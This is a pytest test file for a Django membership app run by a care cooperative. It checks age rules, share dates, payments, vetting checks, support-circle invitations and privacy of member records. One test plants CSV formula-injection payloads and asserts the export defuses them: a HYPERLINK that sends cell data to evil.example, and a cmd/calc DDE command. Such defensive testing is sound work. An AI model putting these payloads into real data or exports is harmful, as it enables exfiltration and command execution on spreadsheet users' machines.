"""Rules a review found could be broken, each now held."""

import csv
import datetime
import io
import re

import pytest
from django.urls import reverse
from django.utils import timezone
from PIL import Image

from carecoop.exceptions import ApplicationError
from members import selectors, services
from members.models import Application, CircleMember, Membership
from tests.factories import (
    ApplicationFactory,
    MembershipFactory,
    UserFactory,
    make_bookable,
    record_dbs,
    record_right_to_work,
)
from tests.outbox import owed, send_owed

TODAY = datetime.date(2026, 11, 23)


@pytest.fixture(autouse=True)
def _today(time_machine):
    time_machine.move_to(datetime.datetime(2026, 11, 23, 10, tzinfo=datetime.UTC), tick=False)


def _admitted(staff, born, member_class="receiver"):
    application = ApplicationFactory(
        member_class=member_class,
        date_of_birth=born,
        payment_date=TODAY,
        payment_amount_pence=100,
        payment_recorded_at=timezone.now(),
    )
    return services.application_approve(application=application, by=staff)


# --- Classes and ages -------------------------------------------------------------------------


def test_a_child_cannot_become_a_worker_by_a_change_of_class(documents, staff_member):
    child = _admitted(staff_member, datetime.date(2016, 5, 1))

    with pytest.raises(ApplicationError) as refused:
        services.membership_change_class(
            membership=child, member_class="worker", by=staff_member, reason="Asked"
        )

    assert refused.value.code == "too_young"
    child.refresh_from_db()
    assert child.member_class == "receiver"


def test_an_adult_may_move_to_the_worker_class(documents, staff_member):
    adult = _admitted(staff_member, datetime.date(1980, 5, 1))

    services.membership_change_class(
        membership=adult, member_class="worker", by=staff_member, reason="Trained"
    )

    adult.refresh_from_db()
    assert adult.member_class == "worker"


def test_moving_to_the_investor_class_needs_an_investors_holding(member, staff_member):
    with pytest.raises(ApplicationError) as refused:
        services.membership_change_class(
            membership=member, member_class="investor", by=staff_member, reason="x"
        )

    assert refused.value.code == "investment_out_of_bounds"


# --- Cessation and rejoining --------------------------------------------------------------------


def test_a_membership_cannot_be_ended_in_advance(member, staff_member):
    with pytest.raises(ApplicationError) as refused:
        services.membership_cease(
            membership=member,
            by=staff_member,
            reason="resigned",
            ceased_on=TODAY + datetime.timedelta(days=30),
        )

    assert refused.value.code == "ceased_in_future"
    member.refresh_from_db()
    assert member.is_current


def test_me_shows_the_current_membership_after_rejoining(api_client, documents, staff_member):
    first = _admitted(staff_member, datetime.date(1980, 1, 1))
    services.membership_cease(membership=first, by=staff_member, reason="resigned", ceased_on=TODAY)
    again = ApplicationFactory(
        user=first.user, payment_date=TODAY, payment_amount_pence=100, payment_recorded_at=timezone.now()
    )
    second = services.application_approve(application=again, by=staff_member)
    api_client.force_authenticate(first.user)

    body = api_client.get("/api/v1/me/").json()

    assert body["membership"] == {"number": second.number, "member_class": "receiver", "status": "current"}


# --- Shares ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("day", "code"),
    [(datetime.date(2099, 1, 1), "date_in_future"), (datetime.date(2020, 1, 1), "date_before_admission")],
)
def test_share_transactions_are_dated_within_the_membership(member, staff_member, day, code):
    with pytest.raises(ApplicationError) as refused:
        services.shares_subscribe(membership=member, shares=10, paid_on=day, reference="", by=staff_member)

    assert refused.value.code == code


# --- Photos -----------------------------------------------------------------------------------


def test_a_photo_with_too_many_pixels_is_refused_before_it_is_decoded(member):
    profile = services.profile_get_or_create(membership=member)
    buffer = io.BytesIO()
    Image.new("L", (9000, 9000)).save(buffer, format="PNG")  # tiny file, 81 megapixels

    with pytest.raises(ApplicationError) as refused:
        services.profile_photo_set(
            profile=profile, by=member.user, upload=io.BytesIO(buffer.getvalue()), size=buffer.tell()
        )

    assert refused.value.code == "photo_too_large"


# --- The register ---------------------------------------------------------------------------------


def test_the_register_csv_cannot_run_formulas_in_a_spreadsheet(client, staff_member):
    MembershipFactory(
        legal_name='=HYPERLINK("http://evil.example/?"&A1,"Click")', address="+cmd|' /C calc'!A0"
    )
    client.force_login(staff_member)

    rows = list(
        csv.reader(io.StringIO(client.get(reverse("staff_register"), {"format": "csv"}).content.decode()))
    )

    assert rows[1][1].startswith("'=HYPERLINK")
    assert rows[1][2].startswith("'+cmd")


def test_staff_correct_a_name_and_address_with_the_reason_in_the_history(member, staff_member):
    services.membership_update_details(
        membership=member,
        by=staff_member,
        legal_name="Margaret Greenwood-Hirst",
        address="3 Market Place\nHebden Bridge",
        postcode="hx7 8dd",
        reason="Married; moved house.",
    )

    entry = next(
        e for e in selectors.membership_history(membership=member) if e.what == "Married; moved house."
    )
    assert entry.by == staff_member.email
    assert any("Margaret Greenwood-Hirst" in change for change in entry.changes)
    member.refresh_from_db()
    assert member.postcode == "HX7 8DD"


def test_one_bad_filter_does_not_drop_the_others(client, staff_member):
    MembershipFactory(legal_name="Tom Ackroyd", member_class="worker")
    MembershipFactory(legal_name="Ruth Sutcliffe", member_class="receiver")
    client.force_login(staff_member)

    html = client.get(
        reverse("staff_register"), {"member_class": "worker", "standing": "nonsense"}
    ).content.decode()

    assert "Tom Ackroyd" in html
    assert "Ruth Sutcliffe" not in html


# --- Payments and refunds ---------------------------------------------------------------------


def test_a_corrected_payment_keeps_the_first_in_the_history(documents, staff_member):
    application = ApplicationFactory()
    for reference in ("BACS 1", "BACS 1A"):
        services.application_record_payment(
            application=application, reference=reference, paid_on=TODAY, amount_pence=100, by=staff_member
        )

    history = list(
        application.history.order_by("history_date").values_list("payment_reference", "history_change_reason")
    )
    assert history[-2:] == [("BACS 1", "Payment recorded"), ("BACS 1A", "Payment corrected")]


def test_a_refund_is_recorded_for_a_paid_application_not_approved(documents, staff_member):
    application = ApplicationFactory(
        payment_date=TODAY, payment_amount_pence=100, payment_recorded_at=timezone.now()
    )
    services.application_reject(application=application, by=staff_member, reason="Outside our area.")

    services.application_record_refund(
        application=application, by=staff_member, reference="REFUND 1", refunded_on=TODAY
    )

    with pytest.raises(ApplicationError) as refused:
        services.application_record_refund(
            application=application, by=staff_member, reference="again", refunded_on=TODAY
        )
    assert refused.value.code == "already_refunded"


# --- Applying ---------------------------------------------------------------------------------


def test_a_very_long_address_is_refused_by_the_api(api_client, newcomer, documents):
    api_client.force_authenticate(newcomer)

    response = api_client.post(
        "/api/v1/membership/applications/",
        {
            "member_class": "receiver",
            "legal_name": "A",
            "address": "x" * 100_000,
            "postcode": "HX7 8AH",
            "date_of_birth": "1950-01-01",
            "reason": "r",
            "rules_version": 1,
            "commitment_version": 1,
        },
        format="json",
    )

    assert response.status_code == 400
    assert response.json()["address"]
    assert Application.objects.count() == 0


def test_an_impossible_date_of_birth_is_refused(newcomer, documents):
    with pytest.raises(ApplicationError) as refused:
        services.application_submit(
            user=newcomer,
            member_class="receiver",
            legal_name="A",
            address="1 Road",
            postcode="HX7 8AH",
            date_of_birth=datetime.date(1, 1, 1),
            reason="r",
            rules=documents["rules"],
            commitment=documents["commitment"],
        )

    assert refused.value.code == "invalid_date_of_birth"


def test_the_api_names_the_field_it_was_given(api_client, newcomer, documents):
    api_client.force_authenticate(newcomer)

    response = api_client.post(
        "/api/v1/membership/applications/",
        {
            "member_class": "investor",
            "legal_name": "A",
            "address": "1 Road",
            "postcode": "HX7 8AH",
            "date_of_birth": "1950-01-01",
            "reason": "r",
            "rules_version": 1,
            "commitment_version": 1,
            "investment_pence": 5,
        },
        format="json",
    )

    assert response.json()["investment_pence"]


def test_a_second_application_in_the_browser_says_why_the_form_is_not_shown(client, newcomer, documents):
    ApplicationFactory(user=newcomer)
    client.force_login(newcomer)

    response = client.get(reverse("application_create"), follow=True)

    assert "You already have an application waiting for a decision" in response.content.decode()


def test_document_version_zero_does_not_exist(client, documents):
    assert client.get("/membership/documents/commitment/0/").status_code == 404


# --- Profiles for every class ---------------------------------------------------------------


@pytest.mark.parametrize("member_class", ["advocate", "investor"])
def test_advocates_and_investors_save_their_profiles(client, db, member_class):
    person = MembershipFactory(member_class=member_class, shares=200 if member_class == "investor" else 1)
    client.force_login(person.user)

    response = client.post(reverse("profile_edit"), {"display_name": "Jo", "bio": "Hello."}, follow=True)

    assert "Your profile is saved." in response.content.decode()


# --- Vetting --------------------------------------------------------------------------------------


def test_a_voided_check_stops_a_worker_being_bookable(staff_member):
    worker = make_bookable(MembershipFactory(member_class="worker"), staff_member)
    dbs = worker.vetting_checks.get(kind="dbs")
    assert selectors.worker_is_bookable(membership=worker, on=TODAY)

    services.vetting_check_void(check=dbs, by=staff_member, reason="Certificate number typed wrongly.")

    assert not selectors.worker_is_bookable(membership=worker, on=TODAY)
    dbs.refresh_from_db()
    assert (dbs.voided_by, dbs.void_reason) == (staff_member, "Certificate number typed wrongly.")


def test_an_update_service_check_before_the_certificate_is_refused(staff_member):
    worker = MembershipFactory(member_class="worker")

    with pytest.raises(ApplicationError) as refused:
        record_dbs(
            worker, staff_member, update_service=True, update_service_checked_on=datetime.date(1990, 1, 1)
        )

    assert refused.value.code == "update_service_before_issue"


def test_staff_stop_a_check_counting_from_the_workers_page(client, staff_member):
    worker = MembershipFactory(member_class="worker")
    check = record_right_to_work(worker, staff_member)
    client.force_login(staff_member)

    client.post(
        reverse("staff_worker_vetting", args=[worker.number]),
        {"action": "void", "check": check.pk, "reason": "Visa revoked"},
    )

    check.refresh_from_db()
    assert check.voided_at is not None


# --- Circle of support ----------------------------------------------------------------------------


@pytest.fixture
def ruth(db):
    return MembershipFactory(member_class="receiver", legal_name="Ruth Sutcliffe")


def _invitation_token() -> str:
    """The token in the link of the invitation email just sent (the outbox sends what is owed)."""
    message = send_owed()[-1]
    return re.search(r"/circle/invitations/([^/\s]+)/", message.body).group(1)


def test_a_supporter_invited_again_at_another_of_their_addresses_is_told_they_are_in_the_circle(ruth):
    from allauth.account.models import EmailAddress

    jane = UserFactory(email="jane@example.org")
    EmailAddress.objects.create(user=jane, email="jane.work@example.org", verified=True, primary=False)
    services.circle_invite(receiver=ruth, by=ruth.user, email="jane@example.org")
    services.circle_accept(token=_invitation_token(), user=jane)

    with pytest.raises(ApplicationError) as refused:
        services.circle_invite(receiver=ruth, by=ruth.user, email="jane.work@example.org")

    assert refused.value.code == "already_in_circle"


def test_if_the_invitation_email_cannot_go_yet_it_is_saved_and_goes_when_the_server_is_back(
    ruth, settings, django_capture_on_commit_callbacks
):
    settings.EMAIL_BACKEND = "tests.failing_email.FailingEmailBackend"

    with django_capture_on_commit_callbacks(execute=True):
        invitation = services.circle_invite(receiver=ruth, by=ruth.user, email="jane@example.org")

    # The invitation stands and its email is owed: nobody has to try again.
    assert CircleMember.objects.get() == invitation
    assert [email.to for email in owed()] == ["jane@example.org"]
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    assert [m.to for m in send_owed()] == [["jane@example.org"]]


def test_the_circle_page_is_only_for_people_getting_support(client, db):
    worker = MembershipFactory(member_class="worker")
    client.force_login(worker.user)

    assert client.get(reverse("circle_manage", args=[worker.number])).status_code == 404


def test_an_invitation_opened_by_someone_else_shows_them_nothing_about_it(client, ruth):
    services.circle_invite(receiver=ruth, by=ruth.user, email="jane@example.org")
    client.force_login(UserFactory(email="nosy@example.org"))

    response = client.get(reverse("circle_invitation", args=[_invitation_token()]))

    assert response.status_code == 403
    assert "Ruth" not in response.content.decode()
    assert "jane@example.org" not in response.content.decode()


def test_membership_numbers_cannot_be_walked_to_find_who_gets_care(client, db):
    people = [MembershipFactory(member_class="receiver") for _ in range(3)]
    for person in people:
        services.profile_get_or_create(membership=person)
    worker = MembershipFactory(member_class="worker")
    client.force_login(worker.user)

    assert [client.get(reverse("member_profile", args=[p.number])).status_code for p in people] == [
        404,
        404,
        404,
    ]
    assert Membership.objects.count() == 4
